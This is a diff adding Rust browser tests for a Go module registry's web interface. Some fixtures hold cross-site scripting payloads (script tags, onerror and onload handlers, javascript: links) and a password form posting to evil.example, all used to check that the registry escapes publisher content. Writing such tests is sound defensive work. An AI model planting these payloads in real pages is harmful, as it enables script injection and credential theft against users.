@@ -1,0 +1,196 @@
+//! Finding, reading and copying in the browser.
+
+use serde_json::json;
+
+use super::{plain_file, publish, scenario, server};
+use crate::harness::machine::Machine;
+use crate::harness::server::Server;
+
+const M: &str = "github.com/yourcompany/mymodule";
+const README: &str =
+    "# My module\n\nKeeps *ledgers*.\n\n## Use\n\n```go\nledger.Open()\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n";
+
+fn with_module() -> Server {
+    let server = server();
+    for version in ["v1.0.0", "v1.1.0"] {
+        publish(
+            &server,
+            M,
+            version,
+            &[("README.md", README), ("LICENSE", "free"), ("cmd/x/main.go", "package main\n")],
+        );
+    }
+    server
+}
+
+#[test]
+fn a_package_opened_by_its_address_is_all_there() {
+    scenario(&with_module(), "browse/deepLink", &json!({"name": M, "version": "v1.1.0", "older": "v1.0.0"}));
+}
+
+#[test]
+fn every_page_that_anyone_may_open_stands() {
+    let server = with_module();
+    let of = |view: &str| format!("/r/go/local/p/{M}?view={view}");
+    let paths = [
+        "/".to_owned(),
+        "/r/go/local".to_owned(),
+        of("versions"),
+        of("files"),
+        of("requiredby"),
+        format!("/r/go/local/p/{M}@v9.9.9"),
+        "/r/go/local/p/github.com/yourcompany/mymodlue".to_owned(),
+        "/search?q=mymodule".to_owned(),
+        "/doctor".to_owned(),
+        "/help/errors".to_owned(),
+        "/help/keys".to_owned(),
+        "/no/such/page".to_owned(),
+    ];
+    scenario(&server, "browse/pages", &json!({"paths": paths}));
+}
+
+#[test]
+fn odd_names_are_linked_loaded_and_fit_a_small_screen() {
+    let server = server();
+    let long = format!("example.com/{}", ["abcdefghijklmnopqrstuvwxyz-0123456789"; 3].join("/"));
+    let modules = [
+        ("github.com/Azure/SDK.for_go~x", "v1.0.0"),
+        ("example.com/legacy", "v2.3.1+incompatible"),
+        (long.as_str(), "v0.0.0-20260102150405-abcdef123456"),
+        ("gopkg.in/yaml.v3", "v3.0.0"),
+    ];
+    for (name, version) in modules {
+        publish(&server, name, version, &[]);
+    }
+    scenario(&server, "browse/oddNames", &json!({"modules": modules}));
+}
+
+#[test]
+fn what_is_copied_brings_the_module_and_the_sums_that_were_shown() {
+    let server = with_module();
+    let copied = scenario(&server, "browse/copies", &json!({"name": M, "version": "v1.1.0"}));
+    assert_eq!(copied["install"], format!("go get {M}@v1.1.0"));
+    let machine = Machine::of_a_user_of(&server);
+    let project = machine.project("app");
+    machine.sh(&project, copied["install"].as_str().expect("a command")).succeeded();
+    let sums = std::fs::read_to_string(project.join("go.sum")).expect("go.sum");
+    for line in copied["sums"].as_str().expect("lines").lines() {
+        assert!(sums.lines().any(|other| other == line), "{line} is not in {sums}");
+    }
+}
+
+#[test]
+fn the_latest_version_is_the_one_that_go_takes() {
+    let server = server();
+    publish(&server, M, "v1.1.0", &[]);
+    let retracting = format!("module {M}\n\ngo 1.21\n\nretract [v1.1.0, v1.1.1] // Lost data.\n");
+    publish(&server, M, "v1.0.0", &[]);
+    publish(&server, M, "v1.1.1", &[("go.mod", &retracting)]);
+    let shown = scenario(&server, "browse/latest", &json!({"name": M}));
+    let machine = Machine::of_a_user_of(&server);
+    let asked = machine.go(&machine.project("app"), &format!("list -m {M}@latest")).succeeded();
+    assert_eq!(asked.stdout(), format!("{M} {}", shown["latest"].as_str().expect("a version")));
+}
+
+#[test]
+fn notices_show_what_was_written_as_text() {
+    let server = server();
+    let markup = "Use v2. <img src=x onerror=alert(1)>";
+    let go_mod = format!("// Deprecated: {markup}\nmodule {M}\n\ngo 1.21\n\nretract v1.0.0 // Lost data. <b>now</b>\n");
+    let yanked = publish(&server, M, "v0.9.0", &[]);
+    let blocked = publish(&server, M, "v0.8.0", &[]);
+    publish(&server, M, "v1.0.0", &[]);
+    publish(&server, M, "v1.1.0", &[("go.mod", &go_mod)]);
+    for (answer, state) in [(&yanked, "yanked"), (&blocked, "blocked")] {
+        let change = json!({"state": state, "reason": "<script>alert(2)</script> is why"});
+        server.api("PATCH", &format!("/api/artifacts/{}", answer.text("id")), Some(&change)).expect(200);
+    }
+    let at = |version: &str| format!("/r/go/local/p/{M}@{version}");
+    let shown = [
+        (at("v1.0.0"), "v1.0.0 is retracted.", "Lost data. <b>now</b>"),
+        (at("v1.1.0"), "is deprecated.", markup),
+        (at("v0.9.0"), "v0.9.0 is yanked.", "<script>alert(2)</script> is why"),
+        (at("v0.8.0"), "v0.8.0 is blocked.", "<script>alert(2)</script> is why"),
+    ];
+    scenario(&server, "browse/notices", &json!({"shown": shown}));
+}
+
+#[test]
+fn nothing_that_a_publisher_wrote_runs_or_is_fetched() {
+    let server = server();
+    let line = "x".repeat(20_000);
+    let readme = format!(
+        "# Hello\n\n<script>globalThis.hostile = 1</script>\n\n<img src=\"https://evil.example/x.png\" onerror=\"globalThis.hostile = 2\">\n\n\
+         [click](javascript:globalThis.hostile=3) [data](data:text/html,<script>globalThis.hostile=4</script>)\n\n\
+         ![pixel](https://evil.example/pixel.png) [fine](https://fine.example/)\n\n\
+         <style>body {{ display: none }}</style><svg onload=\"globalThis.hostile = 5\"></svg>\n\n\
+         <form action=\"https://evil.example\"><input name=\"password\"></form>\n\nThe rest can be read. {line}\n"
+    );
+    let source = "// Package m \u{202e}<img src=x onerror=\"globalThis.hostile = 6\"> does things.\npackage m\n";
+    let odd = "docs/a&b $c=d (e).md";
+    publish(
+        &server,
+        M,
+        "v1.0.0",
+        &[("README.md", &readme), ("m.go", source), (odd, "<script>globalThis.hostile = 7</script>\n")],
+    );
+    let entry = format!("{M}@v1.0.0/m.go");
+    let facts = json!({"name": M, "version": "v1.0.0", "readable": "The rest can be read.", "entry": entry});
+    scenario(&server, "browse/hostile", &facts);
+}
+
+#[test]
+fn filters_are_in_the_address_and_late_answers_are_dropped() {
+    let server = server();
+    for name in ["example.com/alpha", "example.com/beta", "example.com/alphabet", "example.com/gamma"] {
+        publish(&server, name, "v1.0.0", &[]);
+    }
+    scenario(&server, "browse/filters", &json!({"few": "alpha", "many": "example"}));
+}
+
+#[test]
+fn many_versions_come_page_by_page_and_one_is_found_by_its_number() {
+    const VERSIONS: usize = 240;
+    let server = server();
+    for version in 0..VERSIONS {
+        publish(&server, M, &format!("v1.{version}.0"), &[]);
+    }
+    let facts = json!({"name": M, "versions": VERSIONS, "needle": "v1.137.0"});
+    scenario(&server, "browse/manyVersions", &facts);
+}
+
+#[test]
+fn everything_can_be_done_without_a_pointer() {
+    let facts = json!({"name": M, "version": "v1.1.0", "login": "admin"});
+    scenario(&with_module(), "browse/keyboard", &facts);
+}
+
+#[test]
+fn plain_files_are_shown_as_folders_and_a_stored_page_is_a_download() {
+    let server = server();
+    plain_file(&server, "tool/1.0.0/linux/notes.txt", b"first line\nsecond line\n");
+    plain_file(&server, "tool/1.0.0/report.html", b"<script>globalThis.hostile = 1</script>");
+    let facts = json!({
+        "folder": "tool/1.0.0/linux", "file": "tool/1.0.0/linux/notes.txt", "html": "tool/1.0.0/report.html",
+        "text": "second line"
+    });
+    scenario(&server, "browse/plainFiles", &facts);
+}
+
+#[test]
+fn the_lines_of_the_set_up_page_set_a_client_up() {
+    let server = with_module();
+    let shown = scenario(&server, "browse/setup", &json!({}));
+    let texts = shown["texts"].as_array().expect("texts");
+    let shell = texts.iter().find(|text| text["id"] == "shell").expect("the text for a shell");
+    let machine = Machine::new();
+    let project = machine.project("app");
+    machine.sh(&project, shell["text"].as_str().expect("lines")).succeeded();
+    machine.sh(&project, &format!("GOFLAGS=-mod=mod GONOSUMDB='*' GOSUMDB=off go get {M}@v1.1.0")).succeeded();
+}
+
+#[test]
+fn the_doctor_says_what_is_wrong_in_the_browser() {
+    let report = json!({"GOPROXY": "https://proxy.example.com", "GOFLAGS": "", "GOVERSION": "go1.24.0"}).to_string();
+    scenario(&with_module(), "browse/doctor", &json!({"report": report, "says": "GOPROXY"}));
+}
